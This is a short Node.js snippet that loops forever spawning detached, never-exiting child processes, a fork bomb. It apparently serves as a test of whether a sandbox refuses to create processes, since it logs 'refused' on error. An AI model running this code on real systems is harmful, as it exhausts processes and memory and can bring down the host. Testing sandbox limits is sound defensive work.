import { spawn } from "node:child_process";
try {
  for (;;) spawn(process.execPath, ["-e", "setInterval(()=>{},1000)"], { detached: true });
} catch (error) {
  console.log("refused", error.code);
}
